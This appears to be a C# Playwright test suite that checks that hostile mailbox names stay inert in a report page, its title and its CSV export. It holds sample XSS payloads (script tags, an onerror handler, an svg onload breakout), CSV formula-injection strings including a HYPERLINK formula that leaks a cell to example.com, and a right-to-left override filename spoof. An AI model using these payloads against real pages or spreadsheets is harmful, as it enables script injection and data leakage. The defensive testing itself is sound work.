using Microsoft.Playwright;

namespace EnPower;

/// <summary>Hostile names of mailboxes have no effect in the page, its title and its CSV.</summary>
public sealed class HostileNameTests(Chromium chromium, ReportFiles reports)
{
    private const string Script = "<script>alert('script')</script>";
    private const string Handler = "\"><img src=x onerror=alert('handler')>";
    private const string End = "</script></title></svg><svg onload=alert(1)>";
    private const string Formula = "=HYPERLINK(\"https://example.com/?\"&A1,\"Salary\")";
    private const string Bidi = "invoice\u202Efdp.exe";
    private const string Arabic = "محمد الفاسي";
    private const string Hebrew = "דנה כהן";

    private static readonly string[] Names =
        [Script, Handler, End, Formula, "+1+1", "-2+3", "@SUM(1)", "\t=1+1", Bidi, Arabic, Hebrew, "a\nb", "x, y"];

    private static readonly object[] Mailboxes =
    [
        .. Names.Select((name, index) => new
        {
            displayName = name, emailAddress = $"{index}@{name}", tenantDomain = name, recipientType = name, phase = name,
            isRegistered = true, externalEmailForwardingEnabled = true, externalForwardingAddressDomain = name, storageUsed = 100,
            status = name, primaryContact = new { displayName = name }, renewalDueDate = "2020-01-01 00:00:00",
            archiveStatus = name,
        }),
    ];

    [Fact]
    public async Task A_name_that_is_markup_is_shown_as_it_is()
    {
        await using OpenedReport report = await OpenAsync();

        IReadOnlyList<string> names = await report.ColumnAsync("Display name");
        Assert.Contains(Script, names);
        Assert.Contains(Handler, names);
        Assert.Contains(End, names);
        await Assertions.Expect(report.Page.Locator("img, iframe, object, embed")).ToHaveCountAsync(0);
        await Assertions.Expect(report.Page.Locator("script")).ToHaveCountAsync(1);
        Assert.Empty(report.Messages);
        Assert.Single(report.Requests);
    }

    [Fact]
    public async Task A_title_that_is_markup_is_a_title()
    {
        string path = await reports.OfAsync(Mailboxes, $"-Title '{End.Replace("'", "''", StringComparison.Ordinal)}'");
        await using OpenedReport report = await chromium.OpenAsync(path);

        Assert.Equal(End, await report.Page.TitleAsync());
        await Assertions.Expect(report.Page.Locator("h1")).ToHaveTextAsync(End);
        Assert.Empty(report.Messages);
    }

    [Fact]
    public async Task A_title_that_turns_the_direction_of_text_does_not()
    {
        await using OpenedReport report = await chromium.OpenAsync(await reports.OfAsync(Mailboxes, $"-Title '{Bidi}'"));

        Assert.Equal("invoice\uFFFDfdp.exe", await report.Page.TitleAsync());
    }

    [Fact]
    public async Task A_formula_is_text_to_a_spreadsheet()
    {
        await using OpenedReport report = await OpenAsync();

        string csv = await MailboxTableTests.SaveAsync(report);

        Assert.Contains("\r\n\"'=HYPERLINK(\"\"https://example.com/?\"\"&A1,\"\"Salary\"\")\",", csv);
        Assert.Contains("\r\n\"'+1+1\",", csv);
        Assert.Contains("\r\n\"'-2+3\",", csv);
        Assert.Contains("\r\n\"'@SUM(1)\",", csv);
        Assert.DoesNotContain("\"=", csv.Replace("\"\"", string.Empty, StringComparison.Ordinal));
        Assert.DoesNotContain('\u202E', csv);
        Assert.Equal(Names.Length + 2, csv.Split("\r\n").Length);
    }

    [Fact]
    public async Task Names_from_right_to_left_stay_whole_and_to_themselves()
    {
        await using OpenedReport report = await OpenAsync();

        IReadOnlyList<string> names = await report.ColumnAsync("Display name");
        Assert.Contains(Arabic, names);
        Assert.Contains(Hebrew, names);
        Assert.Contains("invoice\uFFFDfdp.exe", names);
        Assert.DoesNotContain('\u202E', await report.Page.ContentAsync());
    }

    [Fact]
    public async Task A_choice_of_a_hostile_tenant_finds_its_mailbox()
    {
        await using OpenedReport report = await OpenAsync();

        await report.Page.Locator("#controls select[name=tenant]").SelectOptionAsync(Handler);

        Assert.Equal([Handler], await report.ColumnAsync("Display name"));
    }

    private async Task<OpenedReport> OpenAsync() =>
        await (await chromium.OpenAsync(await reports.OfAsync(Mailboxes))).WithTableAsync();
}
